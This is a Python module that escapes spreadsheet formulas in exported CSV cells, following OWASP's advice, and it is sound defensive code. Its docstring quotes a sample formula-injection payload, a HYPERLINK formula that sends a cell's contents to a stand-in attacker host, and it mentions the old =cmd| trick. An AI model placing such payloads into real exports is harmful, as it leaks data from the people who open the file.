"""Every CSV the app writes goes through :func:`to_csv`, which defuses spreadsheet formulas.

A cell whose text starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is run as a
formula by Excel, LibreOffice and Google Sheets when the file is opened (``=HYPERLINK(…)``
sending data away, ``=cmd|…`` on old Excel). Text from people — a team named
``=HYPERLINK("http://evil.example/?"&A2,"Payments")`` — is therefore written with a leading
``'`` (OWASP's advice: spreadsheets show the text, not a formula). Numbers our own code computed
(``int``/``float``, e.g. ``-0.25``) stay as they are: they are not text anyone typed, and a
prefixed number would no longer sum in a spreadsheet.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Mapping, Sequence
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> Any:
    """``value`` as it may go in a CSV cell: ``None`` → empty, formula-like text → ``'text``."""
    if value is None:
        return ""
    if isinstance(value, bool) or not isinstance(value, int | float):
        text = str(value)
        return "'" + text if text.startswith(FORMULA_STARTS) else text
    return value


def to_csv(fieldnames: Sequence[str], rows: Iterable[Mapping[str, Any]]) -> str:
    """A CSV document (header line, ``\\n`` line ends) with every cell passed through
    :func:`safe_cell`."""
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=list(fieldnames), lineterminator="\n")
    writer.writeheader()
    for row in rows:
        writer.writerow({k: safe_cell(v) for k, v in row.items()})
    return out.getvalue()
